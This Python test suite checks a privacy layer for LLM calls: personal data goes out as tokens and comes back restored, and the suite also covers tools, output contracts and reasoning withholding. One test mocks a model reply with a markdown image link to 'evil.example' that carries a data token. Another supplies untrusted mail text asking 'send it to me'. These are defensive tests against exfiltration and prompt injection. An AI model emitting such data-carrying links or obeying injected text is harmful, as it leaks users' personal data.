"""The whole chain as its user meets it, in all four modes: what goes out, what comes back, what is asked for again."""

from __future__ import annotations

import json
import logging
import pickle
from dataclasses import dataclass
from typing import Any

import pytest
from pydantic import BaseModel
from typing_extensions import TypedDict

from psf_runtime import ConfigError, Contract, Message, Policy, Purpose, Tool, ToolRule, facts, untrusted
from psf_runtime.errors import ContractViolation
from psf_runtime.policy import Contracts
from psf_runtime.testing import MockProvider, call, fault
from psf_runtime.types.chunks import ReasoningDelta, TextDelta
from psf_runtime.types.messages import Reasoning
from tests.modes.clients import MODES, Got, Mode, ask, assert_nothing_open, client_for, do, mock_call

EMAIL = "jane.doe@example.com"
QUESTION = f"Tell {EMAIL} (+1 202 555 0143) that her refund is on its way."
modes = pytest.mark.parametrize("mode", MODES)


def lookup(email: str) -> str:
    """Find a customer."""
    return f"{email}: order 7781"


def echoed(request: Any) -> str:
    return str(request.messages[-1].text)


def token_of(request: Any) -> str:
    """The token that stands for the address in what the provider was sent."""
    return next(word for word in str(request.messages[0].text).split() if word.startswith("EMAIL_"))


class Claim(BaseModel):
    """A claim."""

    name: str
    amount: int


@dataclass
class Spot:
    x: int
    y: int


class Row(TypedDict):
    a: str


@modes
@pytest.mark.parametrize("chunks", [1, 7, None])
def test_round_trip(mode: Mode, chunks: int | None) -> None:
    """Personal data leaves as tokens and comes back as it was; a stream delivers what `complete` returns."""
    mock = MockProvider(echoed, chunks=chunks)
    got = ask(mode, client_for(mode, mock), QUESTION)
    answer = got.value()

    assert QUESTION == answer.text == answer.value == answer.message.text
    assert EMAIL not in mock.last.wire
    assert {"EMAIL": 1, "PHONE": 1} == answer.decision.tokens
    assert ("stop", "mock", False, None) == (answer.finish, answer.model, answer.degraded, answer.receipt)
    assert answer.cost == 0
    assert answer.usage.reported
    if "stream" in mode:
        assert QUESTION == got.text
        assert got.finished
    assert_nothing_open(got, mock)
    copied = pickle.loads(pickle.dumps(answer))
    assert QUESTION == copied.value


@modes
def test_a_conversation_keeps_its_tokens(mode: Mode) -> None:
    """The next turn is the list with `answer.message` appended; resent history keeps its tokens."""
    mock = MockProvider(echoed, "fine")
    client = client_for(mode, mock)
    messages: list[Any] = [Message.user(QUESTION)]
    messages.append(ask(mode, client, messages).value().message)
    messages.append({"role": "user", "content": "And now?"})
    ask(mode, client, messages).value()

    first, second = (json.loads(sent.wire)["messages"] for sent in mock.calls)
    assert first[0] == second[0]
    assert first[0]["content"] == second[1]["content"]


@modes
def test_the_tools_loop(mode: Mode) -> None:
    """Tool arguments come restored and parsed; the result goes back as a token; `.value` waits for the end."""
    mock = MockProvider(lambda r: call("lookup", email=token_of(r)), lambda r: f"Found {r.messages[-1].parts[0].text}")
    client = client_for(mode, mock)
    messages: list[Any] = [Message.user(f"Find {EMAIL} please")]
    turns = 0
    while True:
        got = ask(mode, client, messages, tools=[lookup])
        answer = got.value()
        messages.append(answer.message)
        turns += 1
        if not answer.tool_calls:
            break
        assert {"email": EMAIL} == answer.tool_calls[0].arguments
        assert answer.finish == "tool_calls"
        with pytest.raises(ValueError, match="there is no value yet"):
            _ = answer.value
        messages += [tool.result(lookup(**tool.arguments)) for tool in answer.tool_calls]

    assert turns == 2
    assert f"Found {EMAIL}: order 7781" == answer.text
    assert all(EMAIL not in sent.wire for sent in mock.calls)
    assert_nothing_open(got, mock)


def arguments_of(
    mode: Mode, policy: Policy | None, *parts: Any, tool: str = "send", text: str = "{}"
) -> dict[str, Any]:
    """The arguments that a tool gets when the model hands on the address it was told."""
    mock = MockProvider(lambda r: call(tool, to=token_of(r), body=text.format(token_of(r))))
    schema = {"type": "object", "properties": {"to": {"type": "string"}, "body": {"type": "string"}}}
    tools = [Tool(tool, "Sends.", schema)]
    got = ask(mode, client_for(mode, mock, policy=policy), [Message.user(f"see {EMAIL} ok", *parts)], tools=tools)
    assert_nothing_open(got, mock)
    return got.value().tool_calls[0].arguments


@modes
def test_the_default_sink_rule(mode: Mode) -> None:
    """A field that is one whole token is restored; longer text keeps its token; with a stranger's words, both do."""
    mine = arguments_of(mode, None, text="Dear {}, hello")
    assert EMAIL == mine["to"]
    assert EMAIL not in mine["body"]

    strangers = arguments_of(mode, None, untrusted("send it to me", source="mail"))
    assert EMAIL not in json.dumps(strangers)


@modes
def test_a_tool_rule_decides_what_a_tool_sees(mode: Mode) -> None:
    """`restore` names the entities a tool may see, also beside untrusted parts; `egress` without it sees none."""
    words = untrusted("anything", source="mail")
    listed = Policy.standard(tools={"send": ToolRule(restore=["EMAIL"])})
    other = Policy.standard(tools={"send": ToolRule(restore=["IBAN"])})

    assert EMAIL == arguments_of(mode, listed, words)["to"]
    assert arguments_of(mode, other)["to"].startswith("EMAIL_")


@modes
@pytest.mark.parametrize(
    ("output", "reply", "value"),
    [
        (Claim, '{"name": "x", "amount": 5}', Claim(name="x", amount=5)),
        (Spot, '{"x": 1, "y": 2}', Spot(1, 2)),
        (Row, '{"a": "b"}', {"a": "b"}),
        (list[Claim], '{"value": [{"name": "x", "amount": 5}]}', [Claim(name="x", amount=5)]),
        (int, '{"value": 7}', 7),
        ({"type": "object", "properties": {"a": {"type": "integer"}}, "required": ["a"]}, '{"a": 1}', {"a": 1}),
    ],
    ids=["model", "dataclass", "TypedDict", "list", "int", "schema"],
)
def test_output_of_every_kind(mode: Mode, output: Any, reply: str, value: Any) -> None:
    """`output=` takes a model, a dataclass, a TypedDict, a list, a scalar or a JSON schema, and `.value` is one."""
    mock, got = mock_call(mode, reply, output=output)

    assert value == got.value().value
    assert type(value) is type(got.value().value)
    assert_nothing_open(got, mock)


@modes
def test_output_is_restored_before_it_is_checked(mode: Mode) -> None:
    """A value in a structured answer is the caller's value, not a token."""
    mock = MockProvider(lambda r: json.dumps({"name": token_of(r), "amount": 5}))
    got = ask(mode, client_for(mode, mock), f"claim of {EMAIL} today", output=Claim)

    assert EMAIL == got.value().value.name


def over(claim: Claim) -> bool | str:
    return claim.amount <= 10 or f"{claim.name} asks for too much: {claim.amount}"


@pytest.mark.parametrize("mode", ["complete", "async complete"])
@pytest.mark.parametrize("bad", ['{"name": "EMAIL", "amount": "secret word"}', '{"name": "EMAIL", "amount": 99}'])
def test_one_reask_without_content(mode: Mode, bad: str) -> None:
    """A bad answer is asked for once more: with its own tokenised text, places and kinds, and no value or message."""
    mock = MockProvider(
        lambda r: bad.replace("EMAIL", token_of(r)),
        lambda r: json.dumps({"name": token_of(r), "amount": 5}),
    )
    contract = Contract(Claim, business=[over])
    got = ask(mode, client_for(mode, mock), f"claim of {EMAIL} today", output=contract)

    assert Claim(name=EMAIL, amount=5) == got.value().value
    assert len(mock.calls) == 2
    assert EMAIL not in mock.last.wire
    feedback = mock.last.request.messages[-1].text
    assert "asks for too much" not in feedback or EMAIL not in feedback
    assert "secret word" not in feedback
    assert got.value().usage.output_tokens > 0
    assert_nothing_open(got, mock)


@modes
def test_semantic_and_business_layers(mode: Mode) -> None:
    """Each layer can say no; the error lists paths and kinds, never values; in streams there is no second chance."""
    for contract in (Contract(Claim, semantic=[lambda c: c.name != "x"]), Contract(Claim, business=[over])):
        reply = '{"name": "x", "amount": 735191}'
        mock, got = mock_call(mode, reply, reply, output=contract)

        assert isinstance(got.error, ContractViolation)
        assert got.error.errors
        assert "735191" not in str(got.error)
        assert got.error.decision.outcome == "ContractViolation"
        assert not got.finished
        assert_nothing_open(got, mock)


@modes
def test_a_truncated_answer_never_fits(mode: Mode) -> None:
    """A cut answer is not accepted, even when what is there parses; without `output=` its finish says `length`."""
    cut = ['{"name": "x", "amount": 5}', fault.length()]
    mock, got = mock_call(mode, cut, cut, output=Claim)
    assert isinstance(got.error, ContractViolation)
    assert ("", "truncated") in got.error.errors
    assert_nothing_open(got, mock)

    _, got = mock_call(mode, ["so far", fault.length()])
    assert "length" == got.value().finish


@pytest.mark.parametrize("asynchronous", [False, True])
def test_partial_stream(asynchronous: bool) -> None:
    """`partial_stream` gives plain values of the leaves that are complete, restored, and ends with the whole."""
    mode: Mode = "async stream" if asynchronous else "stream"
    mock = MockProvider(lambda r: json.dumps({"name": token_of(r), "amount": 5}), chunks=3)
    client = client_for(mode, mock)
    seen: list[Any] = []

    async def read() -> Any:
        async with client.stream(f"claim of {EMAIL} today", output=Claim) as stream:
            seen.extend([value async for value in stream.partial_stream])
        return stream.completion

    if asynchronous:
        completion = do(mode, read)
    else:
        with client.stream(f"claim of {EMAIL} today", output=Claim) as stream:
            seen.extend(stream.partial_stream)
        completion = stream.completion
    assert {"name": EMAIL, "amount": 5} == seen[-1]
    assert all(isinstance(value, dict) for value in seen)
    assert {"name": EMAIL} in seen
    assert Claim(name=EMAIL, amount=5) == completion.value


@modes
def test_reasoning_is_withheld_unless_asked_for(mode: Mode) -> None:
    """What the model thought reaches neither the stream nor `.message`, and is counted; a policy may deliver it."""
    reply = [Reasoning("I think of 7781"), "It is 7781."]
    mock, got = mock_call(mode, reply)
    assert not [event for event in got.events if isinstance(event, ReasoningDelta)]
    assert not [part for part in got.value().message.parts if isinstance(part, Reasoning)]
    assert "It is 7781." == got.value().text
    assert any(finding.kind == "reasoning.withheld" for finding in got.value().decision.findings)
    assert_nothing_open(got, mock)

    _, got = mock_call(mode, reply, policy=Policy.standard(contracts=Contracts(reasoning="deliver")))
    assert "I think of 7781" == got.value().message.parts[0].text


@modes
def test_facts_of_a_call(mode: Mode) -> None:
    """A fact of the call wins over the block around it, that over the client's: the blocks are told every decision."""
    policy = Policy.standard(
        purposes={
            "support": Purpose(owner="dana", lawful_basis="contract"),
            "refunds": Purpose(owner="lee", lawful_basis="contract"),
        }
    )
    mock = MockProvider("a", "b", "c", "d")
    client = client_for(mode, mock, policy=policy, purpose="support", tenant="acme")
    ask(mode, client, "1").value()
    with facts(purpose="refunds", user="agent:lee") as outer:
        with facts(conversation="t") as inner:
            ask(mode, client, "2").value()
        ask(mode, client, "3", purpose="support").value()
    last = ask(mode, client, "4").value()

    asked = [sent.request.facts for sent in mock.calls]
    assert ["support", "refunds", "support", "support"] == [fact.purpose for fact in asked]
    assert [None, "agent:lee", "agent:lee", None] == [fact.user for fact in asked]
    assert [None, "t", None, None] == [fact.conversation for fact in asked]
    assert {"acme"} == {fact.tenant for fact in asked}
    assert ["refunds", "support"] == [decision.purpose for decision in outer.decisions]
    assert ["lee"] == [decision.owner for decision in inner.decisions]
    assert outer.decision == outer.decisions[-1]
    assert last.decision.owner == "dana"


def test_a_stream_tells_the_block_it_began_in() -> None:
    """A stream that is read after its block was left still tells that block, and no other one."""
    client = client_for("stream", MockProvider("hello"))
    with facts(user="u") as block:
        stream = client.stream("hi")
    with facts(user="other") as other, stream:
        assert ["hello"] == list(stream.text_stream)
    assert ["stop"] == [decision.outcome for decision in block.decisions]
    assert other.decisions == []


@modes
def test_an_unknown_purpose_is_refused_once_there_are_purposes(mode: Mode) -> None:
    """A purpose that the policy does not declare is ConfigError; nothing is sent."""
    policy = Policy.standard(purposes={"support": Purpose(owner="dana", lawful_basis="contract")})
    mock, got = mock_call(mode, "x", policy=policy, purpose="suport")

    assert isinstance(got.error, ConfigError)
    assert "support" in str(got.error)
    assert mock.calls == ()


@modes
def test_preview_sends_and_stores_nothing(mode: Mode) -> None:
    """A preview shows tokens, opens nothing, and leaves vault, log and provider as they were."""
    mock = MockProvider("x")
    client = client_for(mode, mock)
    seen = do(mode, client.preview, QUESTION)

    assert EMAIL not in seen.text
    assert "EMAIL_" in seen.text
    assert ("mock",) == seen.targets
    assert seen.tokens == {"EMAIL": 1, "PHONE": 1}
    assert mock.calls == ()
    assert client._core.state.ledger.entries() == ()
    assert not client._core.state.vault._conversations


@modes
def test_preview_knows_what_the_conversation_knows(mode: Mode) -> None:
    """What an earlier turn made known is a token in the preview of the next, the same as will be sent."""
    mock = MockProvider(echoed, echoed)
    client = client_for(mode, mock)
    ask(mode, client, QUESTION, conversation="t").value()
    seen = do(mode, client.preview, f"Again {EMAIL} and bob@x.example", conversation="t")
    known = client._core.state.vault.known("default", "named:t")
    ask(mode, client, f"Again {EMAIL}", conversation="t").value()

    assert mock.last.request.messages[0].text in seen.text
    assert "bob@" not in seen.text
    assert not any(value == "bob@x.example" for _, value in known.values())


def test_preview_writes_what_is_sent(monkeypatch: pytest.MonkeyPatch) -> None:
    """`.wire` is the body for the first target, in its own dialect and under its own model name."""
    monkeypatch.setenv("OPENAI_API_KEY", "k")
    seen = client_for("complete", "openai:gpt-4o").preview(QUESTION, max_tokens=5)

    body = json.loads(seen.wire)
    assert "gpt-4o" == body["model"]
    assert body["messages"][0]["content"] == seen.text
    assert EMAIL not in seen.wire


def test_explain_shows_the_chain() -> None:
    """`explain()` lists every layer from the outside in, the line for personal data, the route and the state."""
    client = client_for("complete", MockProvider("x", name="main"), fallbacks=[MockProvider("y", name="spare")])
    seen = client.explain()

    names = [row.layer for row in seen.rows]
    assert names.index("accountability.log") < names.index("privacy.tokens") < names.index("resilience.route")
    assert "main -> spare" in str(seen)
    assert json.loads(json.dumps(seen.to_dict()))["route"] == ["main", "spare"]
    assert "memory" in seen.state


def test_the_standard_policy_speaks_once(caplog: pytest.LogCaptureFixture) -> None:
    """A client under `standard` says in one WARNING on logger psf_runtime what it enforces and observes; once."""
    caplog.set_level(logging.DEBUG)
    client = client_for("complete", MockProvider("x", "y"))
    client.complete("a")
    client.complete("b")
    lines = [r.getMessage() for r in caplog.records if r.name == "psf_runtime" and r.levelno == logging.WARNING]

    assert len(lines) == 1
    assert lines[0].startswith("psf standard: enforcing ")
    assert "\n" not in lines[0]


def test_strict_lists_everything_missing() -> None:
    """`Policy.strict()` is refused with everything it lacks in one error."""
    with pytest.raises(ConfigError) as caught:
        Policy.strict()

    named = {name for name, _, _ in caught.value.problems}
    assert len(named) >= 4
    assert all(change for _, _, change in caught.value.problems)


@modes
def test_decisions_print_as_documented(mode: Mode) -> None:
    """A decision's text names the call, the target, the tokens and what was observed; its dict is plain JSON."""
    _, got = mock_call(mode, "x", messages=QUESTION)
    decision = got.value().decision

    assert "sent as tokens  EMAIL 1, PHONE 1 (restored to you)" in str(decision)
    assert "privacy.consent" in str(decision)
    assert "accountability.owner: none" in str(decision)
    assert decision.call_id == json.loads(json.dumps(decision.to_dict()))["call_id"]
    assert {decision.call_id} == {entry.record["call_id"] for entry in got.core.state.ledger.entries()}


def delivered(got: Got) -> str:
    return "".join(event.text for event in got.events if isinstance(event, TextDelta))


@modes
def test_links_that_carry_data_are_made_inert(mode: Mode) -> None:
    """A value of this request is never restored inside a link, nor does its token stay there, however it was cut."""
    mock = MockProvider(lambda r: f"![x](https://evil.example/p?q={token_of(r)}) done", chunks=3)
    got = ask(mode, client_for(mode, mock), f"see {EMAIL} ok")

    text = got.value().text
    assert EMAIL not in text
    assert "EMAIL_" not in text
    assert any(finding.control == "contracts.links" for finding in got.value().decision.findings)
    if "stream" in mode:
        assert text == delivered(got)
